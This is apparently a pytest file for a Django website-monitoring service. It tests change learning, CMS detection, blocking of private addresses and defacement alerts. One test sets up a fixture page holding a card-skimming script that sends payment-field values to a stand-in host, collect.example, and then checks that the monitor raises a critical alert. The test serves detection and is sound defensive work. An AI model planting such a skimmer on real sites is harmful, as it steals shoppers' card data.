"""The service against a local page server: start-up learning of moving parts (and its cost),
information-level changes kept in the history, the CMS handed to the website register, the
address guard at entry, the headers line of a page never fetched, advice on alerts."""

from __future__ import annotations

from typing import Any

import pytest
from django.test import override_settings

from mamori.core.models import Job
from mamori.findings.models import Finding, Status
from mamori.inventory.models import Website
from mamori.monitoring import services
from mamori.monitoring.models import PageState, Snapshot, WatchedPage

from .servers import SAFE_HEADERS, page_server

LOOPBACK = ["127.0.0.0/8"]


def home(counter: int, banner: str = "春のセール", bootstrap: str = "5.2.3") -> str:
    return (
        "<html><head><title>テスト商店</title>"
        '<meta name="generator" content="WordPress 6.4.2">'
        f'<script src="https://cdn.jsdelivr.net/npm/bootstrap@{bootstrap}/dist/js/b.min.js"></script>'
        "<link rel='stylesheet' href='/wp-content/plugins/contact-form-7/style.css?ver=5.8.4'>"
        "</head><body><h1>テスト商店</h1><p>営業時間 9:00-18:00</p>"
        f'<div class="hero-text"><p>{banner}</p></div>'
        f'<p class="visits">訪問者 {counter} 人</p><p>電話 03-1234-5678</p></body></html>'
    )


def check(page: WatchedPage, **kwargs: Any) -> WatchedPage:
    result = services.run_check(page.pk, allow_networks=LOOPBACK, **kwargs)
    assert result is not None
    result.refresh_from_db()
    return result


@pytest.mark.django_db
def test_start_up_learning_quiets_moving_parts_and_costs_no_steady_state_fetch(org: Any) -> None:
    with page_server() as (base, pages):
        pages.set("/", home(100, "春のセール"), headers=SAFE_HEADERS)
        page = services.save_page(None, org, WatchedPage(url=base + "/"))
        page = check(page)
        assert page.baseline is not None and page.learn_checks_left == 2
        learn_job = Job.objects.get(payload={"page_id": page.pk, "learn": True})
        assert learn_job.unique_key == f"monitoring.learn:{page.pk}:2"

        # The counter and a rotating text (no telling class name) move on every load.
        pages.set("/", home(117, "送料無料"), headers=SAFE_HEADERS)
        page = check(page, learn_now=True)
        assert page.learn_checks_left == 1 and page.state == PageState.OK
        assert Job.objects.filter(unique_key=f"monitoring.learn:{page.pk}:1").exists()
        pages.set("/", home(131, "会員募集"), headers=SAFE_HEADERS)
        page = check(page, learn_now=True)
        assert page.learn_checks_left == 0 and page.learned["checks"] == 2

        # Steady state: one fetch per check, the moving parts raise nothing.
        hits = len(pages.hits)
        pages.set("/", home(160, "新茶入荷"), headers=SAFE_HEADERS)
        page = check(page)
        assert len(pages.hits) == hits + 1
        assert page.state == PageState.OK and page.pending_change is None

        # A real edit is still a caution (the phone number is not a moving part).
        pages.set(
            "/", home(170, "新茶入荷").replace("03-1234-5678", "03-0000-1111"), headers=SAFE_HEADERS
        )
        page = check(page)
        assert page.state == PageState.CHANGED


@pytest.mark.django_db
def test_regular_checks_do_not_learn(org: Any) -> None:
    """An edit between the baseline and the learning fetch is reported, not learned."""
    with page_server() as (base, pages):
        pages.set("/", home(100), headers=SAFE_HEADERS)
        page = check(services.save_page(None, org, WatchedPage(url=base + "/")))
        pages.set("/", home(100).replace("9:00-18:00", "10:00-15:00"), headers=SAFE_HEADERS)
        page = check(page)
        assert page.state == PageState.CHANGED and page.learn_checks_left == 2


@pytest.mark.django_db
def test_library_update_is_information_in_the_history_and_moves_the_baseline(
    org: Any, members: dict[str, Any], client_as: Any
) -> None:
    with page_server() as (base, pages):
        pages.set("/", home(100), headers=SAFE_HEADERS)
        page = check(services.save_page(None, org, WatchedPage(url=base + "/")))
        first_baseline = page.baseline_at
        pages.set("/", home(100, bootstrap="5.3.3"), headers=SAFE_HEADERS)
        page = check(page)
        assert page.state == PageState.OK and page.pending_change is None
        snapshot = Snapshot.objects.filter(page=page).first()
        assert snapshot is not None and snapshot.level == "info"
        assert [r["code"] for r in snapshot.reasons if r["level"] == "info"] == ["library_updated"]
        assert page.baseline_at > first_baseline
        assert "bootstrap@5.3.3" in " ".join(page.baseline["scripts"])
        assert (
            not Finding.objects.filter(organization=org, status=Status.OPEN)
            .exclude(kind="monitoring.security_headers")
            .exists()
        )
        html = client_as(members["viewer"]).get(f"/o/{org.slug}/monitoring/{page.pk}/").content
        text = html.decode()
        assert "情報" in text and "版が 1 件更新されました" in text


@pytest.mark.django_db
def test_cms_and_version_reach_the_website_register(org: Any) -> None:
    with page_server() as (base, pages):
        website = Website.objects.create(organization=org, url=base + "/", cms="", cms_version="")
        pages.set("/", home(1), headers=SAFE_HEADERS)
        page = check(services.save_page(None, org, WatchedPage(url=base + "/", website=website)))
        website.refresh_from_db()
        assert (website.cms, website.cms_version) == ("WordPress", "6.4.2")
        assert "plugin|contact-form-7|5.8.4" in page.software
        pages.set("/", home(1).replace("WordPress 6.4.2", "WordPress 6.5"), headers=SAFE_HEADERS)
        check(page)
        website.refresh_from_db()
        assert website.cms_version == "6.5"


@pytest.mark.django_db
def test_private_addresses_are_refused_when_entered(
    org: Any, members: dict[str, Any], client_as: Any
) -> None:
    client = client_as(members["editor"])
    url = f"/o/{org.slug}/monitoring/new/"
    with override_settings(OUTBOUND_ALLOW_NETWORKS=[]):
        for address in ("http://127.0.0.1:8080/", "http://192.168.1.20/", "http://localhost/"):
            response = client.post(url, {"url": address, "interval_minutes": 60, "enabled": "on"})
            assert response.status_code == 200
            page = response.content.decode()
            assert "プライベートまたはループバックのアドレス" in page
            assert "MAMORI_OUTBOUND_ALLOW_NETWORKS" in page
        assert not WatchedPage.objects.exists()
    with override_settings(OUTBOUND_ALLOW_NETWORKS=["192.168.1.0/24"]):
        response = client.post(
            url, {"url": "http://192.168.1.20/", "interval_minutes": 60, "enabled": "on"}
        )
        assert response.status_code == 302 and WatchedPage.objects.count() == 1


@pytest.mark.django_db
def test_watching_the_register_skips_refused_addresses(
    org: Any, members: dict[str, Any], client_as: Any
) -> None:
    Website.objects.create(organization=org, url="http://10.0.0.8/")
    with override_settings(OUTBOUND_ALLOW_NETWORKS=[]):
        response = client_as(members["editor"]).post(
            f"/o/{org.slug}/monitoring/from-websites/", follow=True
        )
    assert not WatchedPage.objects.exists()
    assert "http://10.0.0.8/" in response.content.decode()


@pytest.mark.django_db
def test_a_page_never_fetched_does_not_claim_its_headers_are_set(
    org: Any, members: dict[str, Any], client_as: Any
) -> None:
    with page_server() as (base, pages):
        pages.set("/", "gone", status=500)
        page = check(services.save_page(None, org, WatchedPage(url=base + "/")))
        assert page.last_checked_at is not None and page.headers_checked_at is None
        text = client_as(members["viewer"]).get(f"/o/{org.slug}/monitoring/{page.pk}/").content
        assert "すべて設定されています" not in text.decode()
        assert "まだ分かりません" in text.decode()
        pages.set("/", home(1), headers=SAFE_HEADERS | {"X-Frame-Options": "DENY"})
        page = check(page)
        text = client_as(members["viewer"]).get(f"/o/{org.slug}/monitoring/{page.pk}/").content
        assert "すべて設定されています" in text.decode()


@pytest.mark.django_db
def test_an_injected_skimmer_alerts_with_what_to_do_first(
    org: Any, members: dict[str, Any], client_as: Any
) -> None:
    with page_server() as (base, pages):
        pages.set("/", home(1), headers=SAFE_HEADERS)
        page = check(services.save_page(None, org, WatchedPage(url=base + "/")))
        skimmer = (
            "<script>document.addEventListener('change',function(e){if(/card/.test(e.target.name))"
            "navigator.sendBeacon('https://collect.example/c',e.target.value)});</script></body>"
        )
        pages.set("/", home(1).replace("</body>", skimmer), headers=SAFE_HEADERS)
        page = check(page)
        assert page.state == PageState.DANGER
        finding = Finding.objects.get(organization=org, kind="monitoring.defacement")
        assert finding.severity == "critical" and "collect.example" in finding.params["changes"]
        from mamori.findings.guidance import get_guidance

        guidance = get_guidance("monitoring.defacement")
        assert guidance is not None
        summary = guidance.render_summary(finding.params, "ja")
        assert "collect.example" in summary and "§7.7" in summary
        assert "ホームページが書き換えられた" in summary and "管理者パスワード" in summary
        # Evidence lists what changed, not the parts that move on their own.
        assert all("毎回変わる部分" not in item["text"] for item in finding.evidence)
        viewer = client_as(members["viewer"])
        detail = viewer.get(f"/o/{org.slug}/monitoring/{page.pk}/").content.decode()
        assert "スキミング" in detail
        assert "非公開" in detail and "管理者パスワード" in detail and "ホスティング会社" in detail
        assert "ホームページが書き換えられた" in detail
        change = viewer.get(
            f"/o/{org.slug}/monitoring/changes/{page.pending_change_id}/"
        ).content.decode()
        assert "まず行うこと" in change and "collect.example" in change


@pytest.mark.django_db
def test_a_baseline_stored_before_the_upgrade_does_not_alert_and_is_refreshed(org: Any) -> None:
    from mamori.monitoring.fingerprint import fingerprint

    with page_server() as (base, pages):
        html = home(1).replace("<h1>", '<h1 onclick="menu()">') + (
            '<link rel="stylesheet" href="https://fonts.example.net/a.css">'
        )
        pages.set("/", html, headers=SAFE_HEADERS)
        current = fingerprint(html.encode(), page_url=base + "/").to_dict()
        old_format = {
            key: value
            for key, value in current.items()
            if key
            not in {"styles", "handlers", "js_urls", "base_hrefs", "inline_shapes", "inline_flags",
                    "soft_lines", "link_lines", "software", "version"}
        }  # fmt: skip
        page = WatchedPage.objects.create(organization=org, url=base + "/", baseline=old_format)
        page = check(page)
        assert page.state == PageState.OK and page.pending_change is None
        assert page.baseline["version"] == 2 and page.baseline["handlers"]
